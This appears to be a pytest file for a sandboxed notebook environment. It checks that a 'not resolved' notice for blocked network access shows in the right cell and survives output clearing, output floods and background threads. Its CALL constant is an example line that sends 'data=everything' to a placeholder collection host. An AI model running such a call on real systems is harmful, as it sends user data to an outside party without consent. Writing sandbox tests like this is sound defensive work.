"""A refusal is read in the cell that caused it, before the traceback, whatever that cell displays."""

from __future__ import annotations

from pathlib import Path

import pytest

from tests.support.lab import Lab

CALL = "import urllib.request\nurllib.request.urlopen('http://collector.example.com/?data=everything')"
TOLD = "collector.example.com was not resolved"
ATTEMPT = "import socket\ntry: socket.getaddrinfo('collector.example.com', 80)\nexcept OSError: pass\n"


@pytest.mark.parametrize("dark", [False, True], ids=["light", "dark"])
def test_the_notice_stands_before_the_traceback(lab: Lab, tmp_path: Path, dark: bool) -> None:
    with lab.notebook("sandboxed", dark=dark) as notebook:
        notebook.run("%xmode Minimal")
        cell = notebook.run(CALL)
        cell.shows(TOLD)
        assert 0 <= cell.text.index(TOLD) < cell.text.index("URLError")
        assert '"collector.example.com:443"' in cell.text
        cell.element.screenshot(path=tmp_path / "notice.png")


CELLS = {
    "clear_output": f"{ATTEMPT}from IPython.display import clear_output\nclear_output()\nprint('cleared')",
    "clear_output that waits": (
        f"{ATTEMPT}from IPython.display import clear_output\nclear_output(wait=True)\nprint('cleared')"
    ),
    "a flood": f"{ATTEMPT}for number in range(3000): display(number)",
}


@pytest.mark.parametrize("name", CELLS)
def test_the_notice_is_not_hidden(lab: Lab, name: str) -> None:
    with lab.notebook("sandboxed") as notebook:
        notebook.run(CELLS[name]).shows(TOLD)


def test_a_thread_that_goes_on_is_told_in_the_cell_that_began_it(lab: Lab) -> None:
    code = "import os, threading, time\ndef later():\n    while not os.path.exists('go'): time.sleep(0.01)\n"
    code += "".join(f"    {line}\n" for line in ATTEMPT.splitlines()) + "threading.Thread(target=later).start()"
    go = lab.folder / "go"
    with lab.notebook("sandboxed") as notebook:
        cell = notebook.run(code)
        assert TOLD not in cell.text
        go.touch()
        cell.shows(TOLD)
    go.unlink()
